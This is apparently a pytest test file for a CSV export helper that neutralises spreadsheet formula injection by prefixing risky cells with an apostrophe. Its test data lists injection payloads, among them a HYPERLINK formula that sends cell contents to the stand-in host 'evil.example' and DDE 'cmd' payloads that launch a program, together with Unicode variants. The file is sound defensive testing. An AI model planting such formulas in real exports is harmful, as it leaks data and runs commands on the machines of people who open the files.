"""Tables: what is typed stays text in a spreadsheet, and numbers stay numbers."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from juli.papers.tables import cell_text, write_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "-",
    "--1",
    "+86 138",
    "-1,000.00",
    "=-1",
    "-1e5",
    "-٣",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_is_marked_as_text(text: str) -> None:
    assert cell_text(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["", "-12.50", "+8613800006027", "0", "周记五金", "a=b", "1-2", "'=1", "<b>", "2026-01-05"]
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert cell_text(text) == text


def test_numbers_and_days_are_written_plainly() -> None:
    assert [cell_text(cell) for cell in (-5, Decimal("-0.10"), Decimal("1E+3"), date(2026, 1, 5), None)] == [
        "-5",
        "-0.10",
        "1000",
        "2026-01-05",
        "",
    ]
    assert cell_text(datetime(2026, 1, 5, 8, 0, tzinfo=UTC)) == "2026-01-05T08:00:00+00:00"


@pytest.mark.parametrize("cell", [1.5, True, b"x", ["x"], object()])
def test_what_is_no_cell_is_refused(cell: object) -> None:
    with pytest.raises(TypeError):
        cell_text(cell)  # type: ignore[arg-type]


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="1 cells for 2 columns"):
        write_csv([["a"]], ["a", "b"])


def test_the_head_is_guarded_too() -> None:
    assert write_csv([], ["=1"]) == '\ufeff"\'=1"\r\n'.encode()


texts = st.text(alphabet=st.characters(exclude_categories=["Cs"]))


@given(st.lists(st.lists(texts, min_size=2, max_size=2)))
def test_whatever_is_typed_comes_back_as_cells_that_start_nothing(rows: list[list[str]]) -> None:
    read = list(csv.reader(StringIO(write_csv(rows, ["a", "b"]).decode("utf-8-sig"), newline="")))
    assert len(read) == len(rows) + 1
    for row, cells in zip(rows, read[1:], strict=True):
        assert cells == [cell_text(cell) for cell in row]
        assert not any(cell.lstrip()[:1] in set("=@＝＠|%") for cell in cells)
